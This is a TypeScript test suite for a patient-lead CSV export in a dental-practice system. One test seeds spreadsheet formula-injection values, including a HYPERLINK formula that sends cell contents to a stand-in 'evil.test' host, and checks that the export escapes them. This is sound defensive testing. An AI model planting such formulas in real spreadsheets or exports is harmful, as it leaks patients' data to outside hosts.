import { v7 as uuid } from 'uuid'
import { afterAll, describe, expect, it } from 'vitest'
import { aColleague, aPractice, inside, type Practice } from '../../testing/builders.ts'
import { WITHIN } from '../../testing/inbound-fixture.ts'
import { aLead, manyLeads } from '../../testing/lead-history.ts'
import type { Person } from '../../testing/person.ts'
import { productWithSandbox } from '../../testing/product-with-sandbox.ts'
import { publishedEvents } from '../../testing/published-events.ts'
import { runPeriodicJob } from '../../testing/run-periodic-job.ts'
import {
  exportNow,
  filesOf,
  pathOf,
  requestExport,
  rowsOf,
  settled,
  storedExports,
} from './testing/export-fixture.ts'

const product = await productWithSandbox()
afterAll(() => product.stop())
const { deps, clock } = product

const DAY_MS = 86_400_000
const LEADS = { report: 'overview/leadsReceived', type: 'overview' }
const COLUMNS = ['Email', 'Name', 'Phone', 'Stage', 'Type']

async function aMember(): Promise<{ practice: Practice; person: Person }> {
  const practice = await aPractice(deps)
  return { practice, person: await signedIn(practice.email) }
}

async function signedIn(email: string): Promise<Person> {
  const person = product.visitor()
  await person.signIn(email)
  return person
}

async function emailsTo(practice: Practice, count: number) {
  await expect.poll(() => product.outbox('email', practice.email), WITHIN).toHaveLength(count)
  return product.outbox('email', practice.email)
}

describe('an export', () => {
  it('has every patient of the report, in the order of its list, as CSV (PRT-14, PRT-15)', async () => {
    const { practice, person } = await aMember()
    const start = clock.now().getTime()
    await manyLeads(
      deps,
      practice,
      Array.from({ length: 1150 }, (_, index) => new Date(start - (index % 500) * 1000)),
    )
    const { download } = await exportNow(person, LEADS)
    expect(download.status).toBe(200)
    const [columns, ...rows] = rowsOf(download)
    expect(columns).toEqual(COLUMNS)
    const listed: string[] = []
    for (let page = 1; page <= 23; page++) {
      const { body } = await person.get(`/v3/patients/overview?report=leadsReceived&page=${page}`)
      listed.push(...body.data.map(({ name }: { name: string }) => name))
    }
    expect(rows.map(([, name]) => name)).toEqual(listed)
    expect(new Set(listed).size).toBe(1150)
  })

  it('has email, name, phone, the name of the stage and type of each patient, and no formula (PRT-15)', async () => {
    const { practice, person } = await aMember()
    const moves = [['callback1', clock.now()]] as const
    const lead = (lastName: string, columns: object, minutesAgo: number) =>
      aLead(deps, practice, {
        receivedAt: new Date(clock.now().getTime() - minutesAgo * 60_000),
        firstName: '',
        lastName,
        columns,
      })
    await aLead(deps, practice, {
      receivedAt: clock.now(),
      moves,
      firstName: 'Anna',
      lastName: 'O’Brien',
      columns: {
        email: 'anna@mail.example',
        phone: '07700 900123',
        phone_e164: '+447700900123',
        tx_type: 'Implants',
      },
    })
    await lead('=HYPERLINK("https://evil.test?"&A1)', { phone: '0123', email: '@mail.example' }, 1)
    await lead('-2+3', { tx_type: '=1+1' }, 2)
    await lead('', { last_name: 'Thornton, "Gracie"\nof Leeds' }, 3)
    await lead('Zoë 😀 王', { stage: null }, 4)
    const { download } = await exportNow(person, LEADS)
    expect(rowsOf(download)).toEqual([
      COLUMNS,
      ['anna@mail.example', 'Anna O’Brien', "'+447700900123", '2nd Call Attempt', 'Implants'],
      ["'@mail.example", `'=HYPERLINK("https://evil.test?"&A1)`, '0123', 'New Lead', ''],
      ['', "'-2+3", '', 'New Lead', "'=1+1"],
      ['', 'Thornton, "Gracie"\nof Leeds', '', 'New Lead', ''],
      ['', 'Zoë 😀 王', '', 'Not in Pipeline', ''],
    ])
  })

  it('has the filters and days of the report, also a label with a comma (PRT-12)', async () => {
    const { practice, person } = await aMember()
    const lead = (lastName: string, daysAgo: number, columns: object = {}) =>
      aLead(deps, practice, {
        receivedAt: new Date(clock.now().getTime() - daysAgo * DAY_MS),
        lastName,
        columns,
      })
    const all = { tx_type: 'Implants', source: 'Website', labels: ['Sedation, IV'], stage: 'thinking' }
    await lead('Wanted', 2, all)
    await lead('Other type', 2, { ...all, tx_type: 'General' })
    await lead('Other source', 2, { ...all, source: 'Radio' })
    await lead('Other label', 2, { ...all, labels: ['Sedation', 'IV'] })
    await lead('Other stage', 2, { ...all, stage: 'lost' })
    await lead('Other day', 20, all)
    const day = (daysAgo: number) =>
      new Date(clock.now().getTime() - daysAgo * DAY_MS).toISOString().slice(0, 10)
    const { download } = await exportNow(person, {
      ...LEADS,
      from: day(5),
      to: day(0),
      types: 'Implants,Braces',
      sources: 'Website',
      labels: 'sedation%2C IV',
      stages: 'thinking',
    })
    expect(rowsOf(download).map(([, name]) => name)).toEqual(['Name', 'Grace Wanted'])
    expect(download.headers.get('content-disposition')).toContain(
      `filename="Practice Overview - Leads Received, ${day(5)} to ${day(0)}.csv"`,
    )
  })

  it('is a download that no cache keeps, and whose name says the report (PRT-15, G3-12)', async () => {
    const { person } = await aMember()
    const { download } = await exportNow(person, { report: 'lost', type: 'pipeline' })
    expect(Object.fromEntries(download.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': expect.stringMatching(/^attachment; filename="Pipeline - Lost, all time\.csv"/),
      'cache-control': 'no-store',
    })
    expect(rowsOf(download)).toEqual([COLUMNS])
  })

  it('can be of every namespace, named with or without it, also of a lead source', async () => {
    const { person } = await aMember()
    for (const query of [
      { report: 'overview/goneAhead', type: 'overview' },
      { report: 'goneAhead', type: 'pipeline' },
      { report: 'sources/booked', type: 'sources' },
    ])
      expect((await exportNow(person, query)).download.status).toBe(200)
  })

  it('leaves a line in the audit log for its start and for each download', async () => {
    const { practice, person } = await aMember()
    await exportNow(person, LEADS)
    const lines = await inside(deps, practice, (tx) =>
      tx.selectFrom('audit_log').select(['user_id', 'action', 'status']).orderBy('id').execute(),
    )
    const line = (action: string, status: number) => ({ user_id: practice.userId, action, status })
    expect(lines).toContainEqual(line('report.export', 202))
    expect(lines).toContainEqual(line('report.download', 200))
  })
})

describe('the query of an export', () => {
  it.each([
    ['a report that does not exist', { report: 'nothing', type: 'overview' }, 404, undefined],
    ['a report of another namespace', { report: 'losses', type: 'pipeline' }, 404, undefined],
    ['a namespace that does not exist', { report: 'losses', type: 'everything' }, 422, ['type']],
    ['no namespace', { report: 'overview/losses' }, 422, ['type']],
    ['a type other than the namespace', { report: 'overview/losses', type: 'pipeline' }, 422, ['type']],
    [
      'a type other than the namespace and reversed days',
      { report: 'overview/losses', type: 'pipeline', from: '2025-01-02', to: '2025-01-01' },
      422,
      ['to', 'type'],
    ],
    ['no report', { type: 'overview' }, 422, ['report']],
    ['one day of two', { ...LEADS, from: '2025-01-01' }, 422, ['to']],
    ['one day of two and no namespace', { report: LEADS.report, to: '2025-01-01' }, 422, ['from', 'type']],
    ['reversed days', { ...LEADS, from: '2025-01-02', to: '2025-01-01' }, 422, ['to']],
    ['a day in the future', { ...LEADS, from: '2025-01-02', to: '2199-01-01' }, 422, ['to']],
  ])(
    'is refused with %s, and nothing is started (PRT-10, PRT-12, G3-12)',
    async (_, query, status, fields) => {
      const { practice, person } = await aMember()
      const response = await requestExport(person, query)
      expect(response.status).toBe(status)
      expect(response.body.errors && Object.keys(response.body.errors)).toEqual(fields)
      expect(await storedExports(product, practice)).toEqual([])
    },
  )

  it('is refused when another site sends the browser to it', async () => {
    const { person } = await aMember()
    const headers = { 'sec-fetch-site': 'cross-site' }
    const path = `/v3/patients/export?${new URLSearchParams(LEADS)}`
    expect((await person.get(path, { headers })).status).toBe(403)
  })

  it('starts one export when it is repeated within a minute by the same user, also concurrently (C3-37, G3-12)', async () => {
    const { practice, person } = await aMember()
    const query = { ...LEADS, types: 'Implants,General' }
    const repeated = await Promise.all(Array.from({ length: 6 }, () => requestExport(person, query)))
    const urls = new Set(repeated.map(({ body }) => body.url))
    expect([...urls]).toEqual([expect.stringMatching(/^\/api\/v3\/exports\/[0-9a-f-]{36}$/)])
    expect(await storedExports(product, practice)).toHaveLength(1)
    const [url] = urls
    await settled(person, url)
    const urlOf = async (by: Person, given: Record<string, string>) =>
      (await requestExport(by, given)).body.url
    expect(await urlOf(person, { ...query, types: 'General,Implants', report: 'leadsReceived' })).toBe(url)
    expect(await urlOf(person, { ...query, types: 'General' })).not.toBe(url)
    expect(await urlOf(await signedIn(await aColleague(deps, practice)), query)).not.toBe(url)
    clock.skip(61_000)
    expect(await urlOf(person, query)).not.toBe(url)
  })
})

describe('a ready export', () => {
  it('is announced to its user alone, by one email with the link and one event (PRT-14, C3-14)', async () => {
    const { practice, person } = await aMember()
    await manyLeads(
      deps,
      practice,
      Array.from({ length: 1_001 }, () => clock.now()),
    )
    const colleague = await aColleague(deps, practice)
    const { url } = await exportNow(person, LEADS)
    const [email] = await emailsTo(practice, 1)
    const id = url.split('/').at(-1)
    expect(email).toMatchObject({
      subject: 'Your export is ready',
      from: expect.stringContaining(practice.domain),
    })
    expect(email?.body).toMatch(/^Hello Hannah Price,/)
    expect(email?.body).toContain(
      'Your export of Practice Overview: Leads Received, all time is ready. The file has 1,001 patients.',
    )
    expect(email?.body).toContain(`${product.url}/exports/${id}`)
    expect(email?.html).toContain(`href="${product.url}/exports/${id}"`)
    expect(email?.body).toMatch(
      /The link works until \w+day \d+ \w+ \d{4} at \d+:\d\d[ap]m, for people who can log in at Practice \d+\./,
    )
    await expect.poll(() => product.queue(), WITHIN).toEqual([])
    expect(await product.outbox('email', practice.email)).toHaveLength(1)
    expect(await product.outbox('email', colleague)).toEqual([])
    expect(await publishedEvents(deps, practice, null, 'patients.export.ready')).toEqual([
      { name: 'patients.export.ready', payload: { user_id: practice.userId, url } },
    ])
  })

  it('is downloaded by staff of its practice alone, with a session (PRT-15, SETT-12, SETT-13)', async () => {
    const { practice, person } = await aMember()
    const { url, download } = await exportNow(person, LEADS)
    const colleague = await signedIn(await aColleague(deps, practice))
    expect((await colleague.get(pathOf(url))).body).toBe(download.body)
    const { person: stranger } = await aMember()
    const notFound = { code: 'not_found', message: 'We could not find this export.' }
    for (const path of [pathOf(url), `/v3/exports/${uuid()}`]) {
      const refused = await stranger.get(path)
      expect([refused.status, refused.body]).toEqual([404, notFound])
    }
    for (const path of [pathOf(url), `/v3/patients/export?${new URLSearchParams(LEADS)}`])
      expect((await product.visitor().get(path)).status).toBe(401)
  })

  it('has no patient of another practice (SETT-13)', async () => {
    const { practice: other } = await aMember()
    await aLead(deps, other, { receivedAt: clock.now() })
    const { person } = await aMember()
    expect(rowsOf((await exportNow(person, LEADS)).download)).toEqual([COLUMNS])
  })

  it('expires after seven days; then its file is deleted, and long after that it is forgotten (PRT-15)', async () => {
    const { practice, person } = await aMember()
    const { url } = await exportNow(person, LEADS)
    const id = url.split('/').at(-1)
    const statusNow = async () => {
      const browser = await signedIn(practice.email)
      const { status, body } = await browser.get(pathOf(url))
      return [status, body.code]
    }
    clock.skip(7 * DAY_MS - 60_000)
    await runPeriodicJob(deps, 'exports.delete-expired')
    expect((await statusNow())[0]).toBe(200)
    clock.skip(61_000)
    expect(await statusNow()).toEqual([410, 'export_expired'])
    expect(await filesOf(product, practice)).toEqual([id])
    await runPeriodicJob(deps, 'exports.delete-expired')
    expect(await filesOf(product, practice)).toEqual([])
    expect(await statusNow()).toEqual([410, 'export_expired'])
    clock.skip(84 * DAY_MS)
    await runPeriodicJob(deps, 'exports.delete-expired')
    expect(await storedExports(product, practice)).toEqual([])
    expect(await statusNow()).toEqual([404, 'not_found'])
  })
})
